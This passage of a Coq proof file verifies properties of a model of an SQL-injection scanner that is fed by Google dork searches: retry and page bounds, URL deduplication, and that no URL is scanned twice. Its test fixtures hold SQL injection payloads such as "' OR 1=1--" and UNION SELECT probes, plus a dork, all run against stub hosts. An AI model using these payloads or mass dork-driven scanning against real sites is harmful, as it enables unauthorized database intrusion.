  case_bool_decide; [|split; [by left|]; simpl; count_fetches; split; lia].
  pose proof (searchPages_fetches (pageNumbers config) sanitizedDork config calls allUrls) as Hp.
  destruct (searchPages (pageNumbers config) sanitizedDork config calls allUrls)
    as [[[failure calls1] all1] evs1].
  destruct Hp as [-> Hle].
  destruct failure as [[tooMany message]|].
  - destruct tooMany.
    + destruct (IH (retries + 1) (calls + fetches evs1)%nat all1) as (Hr & Hc & Hle').
      simpl. split; [done|]. rewrite Hc. count_fetches. split; lia.
    + case_bool_decide.
      * split; [by left|]. simpl. count_fetches. split; lia.
      * destruct (IH (retries + 1) (calls + fetches evs1)%nat all1) as (Hr & Hc & Hle').
        simpl. split; [done|]. rewrite Hc. count_fetches. split; lia.
  - destruct (searchFilter now all1 s) as [uniqueUrls s'] eqn:E. simpl.
    split; [right; exists all1; by rewrite E|].
    assert (fetches (match truthy (outputFile config) with
                     | Some file => saveResults file
                     | None => []
                     end) = 0%nat) as Hsave.
    { destruct (truthy (outputFile config)); [unfold saveResults|]; by count_fetches. }
    count_fetches. rewrite Hsave. split; lia.
Qed.

(** The loop ends when [retries] reaches [maxRetries]: more fuel than that
    changes nothing. *)
Lemma attempts_fuel extra fuel retries now dork sanitizedDork config calls allUrls s :
  (Z.to_nat (maxRetries config - retries) ≤ fuel)%nat →
  attempts (fuel + extra) retries now dork sanitizedDork config calls allUrls s =
  attempts fuel retries now dork sanitizedDork config calls allUrls s.
Proof.
  revert retries calls allUrls.
  induction fuel as [|fuel IH]; intros retries calls allUrls Hfuel.
  - destruct extra as [|extra]; [done|]. simpl. rewrite bool_decide_eq_false_2 by lia. done.
  - simpl. case_bool_decide; [|done].
    destruct (searchPages (pageNumbers config) sanitizedDork config calls allUrls)
      as [[[failure calls1] all1] evs1].
    destruct failure as [[[] message]|]; [| |done].
    + by rewrite IH by lia.
    + case_bool_decide; [done|]. by rewrite IH by lia.
Qed.

Lemma pageNumbers_length config : length (pageNumbers config) = Z.to_nat (maxPages config).
Proof. unfold pageNumbers. by rewrite length_map, length_seq. Qed.

(** What a call of [searchGoogle] does to the store and how many pages it
    requests. *)
Lemma searchGoogle_spec now dork config calls s :
  let searchConfig := Search.spread Search.DEFAULT_CONFIG config in
  let r := searchGoogle now dork config calls s in
  testedUrls (store r) = list_to_set (normalizeUrl <$> found r) ∪ testedUrls s ∧
  NoDup (normalizeUrl <$> found r) ∧
  (∀ url, url ∈ found r → Utils.validateUrl url = true ∧ normalizeUrl url ∉ testedUrls s) ∧
  requests r = (calls + fetches (effects r))%nat ∧
  (fetches (effects r) ≤ Z.to_nat (maxRetries searchConfig) * Z.to_nat (maxPages searchConfig))%nat.
Proof.
  intros searchConfig r. unfold r, searchGoogle. fold searchConfig.
  destruct (attempts_spec (Z.to_nat (maxRetries searchConfig)) 0 now dork
              (encodeURIComponent (trim dork)) searchConfig calls [] s) as (Hr & Hc & Hle).
  set (a := attempts _ _ _ _ _ _ _ _ _) in *. unfold after. cbn [found store requests effects].
  assert (testedUrls (store a) = list_to_set (normalizeUrl <$> found a) ∪ testedUrls s ∧
          NoDup (normalizeUrl <$> found a) ∧
          ∀ url, url ∈ found a → Utils.validateUrl url = true ∧ normalizeUrl url ∉ testedUrls s)
    as (Ht & Hd & Hk).
  { destruct Hr as [[-> ->] | [urls Hf]].
    - split; [set_solver|]. split; [constructor|]. by intros url ?%elem_of_nil.
    - destruct (searchFilter_spec now urls s) as (Ht & Hd & Hk). rewrite <- Hf in *. simpl in *.
      split; [done|]. split; [done|]. intros url Hin. by destruct (Hk url Hin) as (_ & ? & ?). }
  split; [done|]. split; [done|]. split; [done|]. count_fetches.
  rewrite pageNumbers_length in Hle. split; lia.
Qed.

(** X18.  [searchGoogle] marks as tested exactly the URLs it returns: the set
    of tested URLs grows by their normalized forms and by nothing else.  The
    URLs it returns are valid, were not tested before and have normalized
    forms that differ from one another, so that of the URLs of one page that
    differ in their queries only, one is returned.  It requests at most
    [maxRetries] times [maxPages] pages. *)
Theorem X18_searchGoogle now dork config calls s :
  let searchConfig := Search.spread Search.DEFAULT_CONFIG config in
  let r := searchGoogle now dork config calls s in
  testedUrls (store r) = list_to_set (normalizeUrl <$> found r) ∪ testedUrls s ∧
  NoDup (normalizeUrl <$> found r) ∧
  (∀ url, url ∈ found r → Utils.validateUrl url = true ∧ normalizeUrl url ∉ testedUrls s) ∧
  requests r = (calls + fetches (effects r))%nat ∧
  (fetches (effects r) ≤ Z.to_nat (maxRetries searchConfig) * Z.to_nat (maxPages searchConfig))%nat.
Proof. apply searchGoogle_spec. Qed.

End SearchFacts.

(** ** The driver: what is scanned *)

Section DriverFacts.
Import UrlStore Scanner Driver Search.
Context `{Environment} `{UrlSearch} `{Google}.

(** The effect of a call of [testSQLInjection]. *)
Definition isScan (ev : Driver.Event) : Prop :=
  match ev with Scan _ _ => True | _ => False end.

Lemma processSingleUrl_known now testDelay url s :
  normalizeUrl url ∈ testedUrls s →
  ∃ message, processSingleUrl now testDelay url s = (s, [Console message]) ∧
             (message = InvalidUrl url ∨ message = UrlTested url).
Proof.
  intros Hin. unfold processSingleUrl.
  destruct (isValidTestUrl url); simpl; [|eauto].
  rewrite (isUrlTested_known _ _ _ Hin). eauto.
Qed.

(** X19.  [searchGoogle] marks every URL it returns as tested, and
    [processSingleUrl] skips a URL that is marked as tested: handed URLs
    that a search has returned, at whatever times, [processSingleUrl] starts
    no scan and leaves the store as the search left it. *)
Theorem X19_searched_never_scanned now dork config calls s testDelay schedule :
  let r := searchGoogle now dork config calls s in
  (∀ entry, entry ∈ schedule → entry.2 ∈ found r) →
  (processAll testDelay schedule (store r)).1 = store r ∧
  Forall (λ ev, ¬ isScan ev) (processAll testDelay schedule (store r)).2.
Proof.
  intros r Hsched.
  assert (∀ url, url ∈ found r → normalizeUrl url ∈ testedUrls (store r)) as Hknown.
  { intros url Hin. destruct (searchGoogle_spec now dork config calls s) as (Ht & _).
    fold r in Ht. rewrite Ht. apply elem_of_union. left.
    apply elem_of_list_to_set, list_elem_of_fmap. eauto. }
  generalize dependent (store r). intros s1 Hknown.
  induction schedule as [|[now' url] rest IH]; simpl; [by split|].
  destruct (processSingleUrl_known now' testDelay url s1) as (m & -> & Hm).
  { apply Hknown, (Hsched (now', url)). by left. }
  destruct IH as [IH1 IH2]; [intros; apply Hsched; by right|].
  destruct (processAll testDelay rest s1) as [s2 evs]. simpl in *.
  split; [done|]. constructor; [|done]. by intros [].
Qed.

Lemma items_not_scan (names : list string) :
  Forall (λ ev, ¬ isScan ev) (map (λ name, Console (Item name)) names).
Proof. apply Forall_forall. by intros ev (x & -> & _)%list_elem_of_fmap []. Qed.

Lemma displayResults_not_scan r : Forall (λ ev, ¬ isScan ev) (displayResults r).
Proof.
  unfold displayResults. apply Forall_app. split; [constructor; [by intros [] | constructor]|].
  apply Forall_app. split; case_bool_decide; try constructor; try (by intros []);
    apply items_not_scan.
Qed.

Lemma afterScan_not_scan url testDelay (outcome : Outcome SQLInjectionResult) :
  Forall (λ ev, ¬ isScan ev)
    (match outcome with
     | Ok result =>
         if vulnerable result
         then displayResults result ++ [SaveVulnerableUrl url result]
         else []
     | Throw message => [Console (ErrorTestingUrl url message)]
     end ++ [Wait testDelay]).
Proof.
  apply Forall_app. split; [|constructor; [by intros [] | constructor]].
  destruct outcome as [r|e]; [|constructor; [by intros [] | constructor]].
  destruct (vulnerable r); [|constructor].
  apply Forall_app. split; [apply displayResults_not_scan|].
  constructor; [by intros [] | constructor].
Qed.

Lemma processSingleUrl_cases now testDelay url s :
  let out := processSingleUrl now testDelay url s in
  (isValidTestUrl url = true ∧ (isUrlTested now url s).1 = false ∧
   out.1 = markUrlAsTested now url (isUrlTested now url s).2 ∧
   ∃ evs, out.2 = Console (TestingUrl url) :: Scan url (trace (run url noConfig).2) :: evs ∧
          Forall (λ ev, ¬ isScan ev) evs) ∨
  ((isValidTestUrl url = false ∨ (isUrlTested now url s).1 = true) ∧
   out.1 = s ∧ ∃ message, out.2 = [Console message]).
Proof.
  unfold processSingleUrl. destruct (isValidTestUrl url); simpl; [|right; eauto].
  pose proof (afterScan_not_scan url testDelay (run url noConfig).1) as Hafter.
  destruct (isUrlTested_cases now url s) as [E | [(E & _) | (d & ps & _ & _ & _ & _ & _ & E)]];
    rewrite E; simpl; [right; eauto | left | left];
    (split; [done|]; split; [done|]);
    destruct (run url noConfig) as [outcome w]; simpl in *; (split; [done|]); eauto.
Qed.

(** X20.  [processSingleUrl] starts a scan exactly when the URL is a valid
    test URL and the admission check answers false; it has then marked the
    URL as tested before the scan starts, so that no later call for a URL
    of the same normalized form starts a scan, whether the scan returned or
    threw; and a call that starts no scan leaves the store as it was. *)
Theorem X20_processed_once now testDelay url s :
  let out := processSingleUrl now testDelay url s in
  (Exists isScan out.2 ↔ isValidTestUrl url = true ∧ (isUrlTested now url s).1 = false) ∧
  (Exists isScan out.2 →
     ∀ ops now' url', normalizeUrl url' = normalizeUrl url →
       Forall (λ ev, ¬ isScan ev)
              (processSingleUrl now' testDelay url' (performAll ops out.1)).2) ∧
  (¬ Exists isScan out.2 → out.1 = s).
Proof.
  intros out.
  destruct (processSingleUrl_cases now testDelay url s)
    as [(Hv & Ht & Hs & evs & Hevs & Hno) | (Hskip & Hs & m & Hevs)]; fold out in Hs, Hevs.
  - assert (Exists isScan out.2) as Hscan.
    { rewrite Hevs. apply Exists_cons. right. apply Exists_cons. by left. }
    split; [done|]. split; [|done]. intros _ ops now' url' Hn.
    destruct (processSingleUrl_known now' testDelay url' (performAll ops out.1)) as (m & -> & _).
    { rewrite Hn, Hs. apply performAll_tested, markUrlAsTested_tested. }
    constructor; [by intros [] | constructor].
  - assert (¬ Exists isScan out.2) as Hscan.
    { rewrite Hevs. intros [[]|[]%Exists_nil]%Exists_cons. }
    split; [|done]. split; [done|]. intros [Hv Ht]. destruct Hskip; congruence.
Qed.

End DriverFacts.

(** ** More fixtures *)

Section MoreExamples.
Import UrlStore Scanner Driver Search.

(** Two spellings of one page are one URL to the store. *)
Lemma X1_query_ignored_witness :
  normalizeUrl (H := exampleParser) "https://a.com/x?id=1" =
    normalizeUrl (H := exampleParser) "https://a.com/x?id=1&utm_source=x" ∧
  let s := performAll (H := exampleParser) [CleanupOldEntries 900000]
             (markUrlAsTested (H := exampleParser) 10 "https://a.com/x?id=1"
                (new UrlStore.DEFAULT_CONFIG)) in
  isUrlTested (H := exampleParser) 900001 "https://a.com/x?id=1&utm_source=x" s = (true, s).
Proof.
  apply (X1_query_ignored (H := exampleParser)
           "https://a.com/x?id=1" "https://a.com/x?id=1&utm_source=x"
           (mkURL "https://a.com" "a.com" "/x" [("id", "1")])
           (mkURL "https://a.com" "a.com" "/x" [("id", "1"); ("utm_source", "x")]));
    reflexivity.
Defined.

(** A store with no state file, after a commit, a clean-up well after the
    cooldown, and a report. *)
Definition history : list Op :=
  [MarkUrlAsTested 10 "https://a.com/x?id=1"; CleanupOldEntries 900000;
   MarkUrlAsTested 900001 "http://shop.test/item.php?id=1";
   AddVulnerableUrl "http://shop.test/item.php?id=1" "' OR '1'='1"].

Lemma X2_domain_maps_in_step_witness :
  is_Some (seenDomains (performAll (H := exampleParser) history (new UrlStore.DEFAULT_CONFIG))
             !! "shop.test") ↔
  is_Some (lastTestedTime (performAll (H := exampleParser) history (new UrlStore.DEFAULT_CONFIG))
             !! "shop.test").
Proof.
  apply (X2_domain_maps_in_step (H := exampleParser) UrlStore.DEFAULT_CONFIG history "shop.test").
  reflexivity.
Defined.

Lemma X3_stats_witness :
  let s := performAll (H := exampleParser) history (new UrlStore.DEFAULT_CONFIG) in
  let s' := UrlStore.perform (H := exampleParser) (MarkUrlAsTested 900002 "https://a.com/y?id=1") s in
  (recentlyTestedDomains (getStats 900002 s) ≤ uniqueDomains (getStats 900002 s))%nat ∧
  (totalTested (getStats 900002 s) ≤ totalTested (getStats 900003 s'))%nat ∧
  (totalVulnerable (getStats 900002 s) ≤ totalVulnerable (getStats 900003 s'))%nat.
Proof.
  apply (X3_stats (H := exampleParser) UrlStore.DEFAULT_CONFIG history
           (MarkUrlAsTested 900002 "https://a.com/y?id=1") 900002 900003).
  reflexivity.
Defined.

Lemma X4_vulnerable_payloads_witness :
  let s := performAll (H := exampleParser) history (new UrlStore.DEFAULT_CONFIG) in
  let s' := addVulnerableUrl (H := exampleParser)
              "http://shop.test/item.php?id=1&cat=2" "' OR 1=1--" s in
  (∃ payloads, vulnerableUrls s' !! "http://shop.test/item.php" = Some payloads ∧
               "' OR 1=1--" ∈ payloads) ∧
  addVulnerableUrl (H := exampleParser)
    "http://shop.test/item.php?id=1&cat=2" "' OR 1=1--" s' = s' ∧
  (∀ u payloads, vulnerableUrls s' !! u = Some payloads → payloads ≠ [] ∧ NoDup payloads) ∧
  testedUrls s' = testedUrls s.
Proof.
  apply (X4_vulnerable_payloads (H := exampleParser) UrlStore.DEFAULT_CONFIG history
           "http://shop.test/item.php?id=1&cat=2" "' OR 1=1--").
  reflexivity.
Defined.

(** The check that resets the record of [a.com] in [visited], asked again. *)
Lemma X6_admission_stands_witness :
  let first := isUrlTested (H := exampleParser) 10000 "https://a.com/y?id=1" visited in
  isUrlTested (H := exampleParser) 20000 "https://a.com/y?id=1" first.2 = (false, first.2).
Proof.
  assert (config visited = limitOne) as Hc.
  { unfold visited. by rewrite markUrlAsTested_config. }
  apply (X6_admission_stands (H := exampleParser) 10000 20000 "https://a.com/y?id=1" visited).
  - rewrite Hc. simpl. lia.
  - rewrite (isUrlTested_reset (H := exampleParser) 10000 "https://a.com/y?id=1" visited
               "a.com" {["/x"]}); [reflexivity | | reflexivity | apply visited_seen | |].
    + unfold visited. rewrite markUrlAsTested_testedUrls.
      rewrite not_elem_of_union, not_elem_of_singleton. split; [discriminate|].
      apply not_elem_of_empty.
    + rewrite size_singleton, Hc. simpl. lia.
    + rewrite visited_last, Hc. simpl. lia.
Defined.

Lemma X8_sanitizePayload_idempotent_witness :
  Utils.sanitizePayload (Str "' OR '1'='1'--") 1000 = Ok "' OR '1'='1'--".
Proof.
  apply (X8_sanitizePayload_idempotent "  ' OR '1'='1';--  " 1000). reflexivity.
Defined.

(** *** A page without a query *)

Definition about : string := "http://shop.test/about".

Definition aboutStub : Environment := {|
  urlParser := λ url,
    if bool_decide (url = about)
    then Some (mkURL "http://shop.test" "shop.test" "/about" []) else None;
  DETECTION_PAYLOADS := ["' OR '1'='1"; "' OR 1=1--"];
  COLUMN_PAYLOADS := ["' UNION ALL SELECT NULL--"];
  transport := λ _, Body "You have an error in your SQL syntax";
  writeFile := λ _, None;
  formatTimestamp := "2025-06-15T17-43-00-000Z"
|}.

Lemma X12_no_parameters_witness :
  run (H := aboutStub) about noConfig =
    (Ok emptyResult,
     mkWorld emptyResult
       [Delay 100; Delay 100; Log (mkLog "INFO" "No vulnerabilities detected")]).
Proof.
  apply (X12_no_parameters (H := aboutStub) about
           (mkURL "http://shop.test" "shop.test" "/about" []) noConfig);
    [reflexivity | reflexivity |].
  intros p Hp. repeat (apply elem_of_cons in Hp as [->|Hp]; [by vm_compute|]).
  by apply elem_of_nil in Hp.
Defined.

(** *** A catalog with a payload over the limit *)

Definition longStub : Environment := {|
  urlParser := exampleParser;
  DETECTION_PAYLOADS := ["' OR 1=1--"; "' OR 'a'='a' AND 'b'='b'--"; "' OR '1'='1"];
  COLUMN_PAYLOADS := ["' UNION ALL SELECT NULL--"];
  transport := λ x,
    if bool_decide (valueOf "id" x = "' OR '1'='1")
    then Body "You have an error in your SQL syntax" else Body "Welcome";
  writeFile := λ _, None;
  formatTimestamp := "2025-06-15T17-43-00-000Z"
|}.

Definition twelve : PartialScanConfig := mkPartial None None (Some 12).

Lemma X13_oversize_payload_witness :
  let out := run (H := longStub) oneParam twelve in
  out.1 = Throw "Payload exceeds maximum length of 12 characters" ∧
  result out.2 = emptyResult ∧
  trace out.2 =
    [Request (shop [("id", "' OR 1=1--")]); Delay 100;
     Log (mkLog "ERROR"
            "Fatal error during scan: Payload exceeds maximum length of 12 characters")].
Proof.
  apply (X13_oversize_payload (H := longStub) oneParam (shop [("id", "1")]) twelve
           ["' OR 1=1--"] "' OR 'a'='a' AND 'b'='b'--" ["' OR '1'='1"]).
  - reflexivity.
  - reflexivity.
  - intros q Hq%list_elem_of_singleton. subst q. split; [by vm_compute|].
    intros (before & x & after & data & Hp & _ & Hbody & Hhit).
    assert (x ∈ before ++ x :: after) as Hin by (apply elem_of_app; right; left).
    rewrite <- Hp in Hin.
    repeat (apply elem_of_cons in Hin as [->|Hin];
            [injection Hbody as <-; discriminate Hhit|]).
    by apply elem_of_nil in Hin.
  - by vm_compute.
Defined.

(** *** The end-to-end stub again *)




(** *** A search that finds one page, under two spellings *)

Definition onePage : Google := {|
  searchGooglePage := λ _ _ _,
    Page ["https://a.com/x?id=1"; "https://a.com/x?id=1&utm_source=x"];
  encodeURIComponent := λ dork, dork;
  writeResults := λ _, None;
  googleSearchDelay := 10000
|}.

Definition queryOf : UrlSearch := λ url,
  if bool_decide (url = "https://a.com/x?id=1") then "?id=1" else "".

Definition noSearchConfig : PartialSearchConfig := mkPartialSearch None None None None.

Lemma X19_searched_never_scanned_witness :
  let r := searchGoogle (H := exampleParser) (H0 := onePage)
             0 "inurl:x?id=" noSearchConfig 0 (new UrlStore.DEFAULT_CONFIG) in
  found r = ["https://a.com/x?id=1"] ∧
  (processAll (H := mydbStub) (H0 := queryOf) 2000 [(5000, "https://a.com/x?id=1")]
     (store r)).1 = store r ∧
  Forall (λ ev, ¬ isScan ev)
    (processAll (H := mydbStub) (H0 := queryOf) 2000 [(5000, "https://a.com/x?id=1")]
       (store r)).2.
Proof.
  split; [by vm_compute|].
  apply (X19_searched_never_scanned (H := mydbStub) (H0 := queryOf) (H1 := onePage)
           0 "inurl:x?id=" noSearchConfig 0 (new UrlStore.DEFAULT_CONFIG) 2000
           [(5000, "https://a.com/x?id=1")]).
  intros entry Hin%list_elem_of_singleton. subst entry. vm_compute. left.
Defined.

End MoreExamples.
